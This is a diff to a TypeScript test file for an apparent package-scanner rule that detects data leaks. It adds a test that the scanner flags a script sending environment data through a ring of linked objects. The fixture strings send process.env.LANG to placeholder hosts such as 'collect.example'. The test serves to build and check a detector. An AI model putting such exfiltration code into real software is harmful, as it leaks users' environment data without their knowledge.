@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { findingsOf } from '#test/support/scan-package.js';
+import { findingsOf, packageOf } from '#test/support/scan-package.js';
 import { rule } from './data-leak.rule.js';
+import { judgeTaken } from './taken-data.js';
 
 const isTold = (files: string | Record<string, string>) => findingsOf(rule, typeof files === 'string' ? { 'a.js': files } : files).some(({ severity }) => severity === 'high' || severity === 'critical');
 /** Told by what this reads alone. */
@@ -72,4 +73,15 @@ test('good: callers say where, a key of theirs is with it, somebody reads the an
     `require("http").createServer((q, s) => s.end(JSON.stringify(${WHO}))).listen(80, "127.0.0.1"); fetch("https://c.example");`,
     `console.log(JSON.stringify(${WHO})); fetch("https://c.example/latest").catch(() => {});`,
   ]) assert.equal(isTaken(HEAD + code), false, code);
+});
+
+test('values that lead to each other without end are told, because anything could be hidden in them', () => {
+  const script = (sends: number): string => {
+    const names = Array.from({ length: 300 }, (_, index) => `o${index}`);
+    const ring = names.map((name, index) => `${name}.n = ${names[(index + 1) % names.length]};`).join('');
+    return `const u = 'https://collect.example/'; ${names.map((name) => `const ${name} = {};`).join('')} ${ring} o0.e = process.env.LANG; const all = [${names.join()}]; ${'fetch(u, all);'.repeat(sends)}`;
+  };
+  const told = (sends: number) => judgeTaken(packageOf({ 'a.js': script(sends) }), 'data-leak', []).map(({ severity, message }) => `${severity} ${message.slice(0, 26)}`);
+  assert.deepEqual(told(1_500), ['high values lead to each other ']);
+  assert.deepEqual(told(10), []);
 });
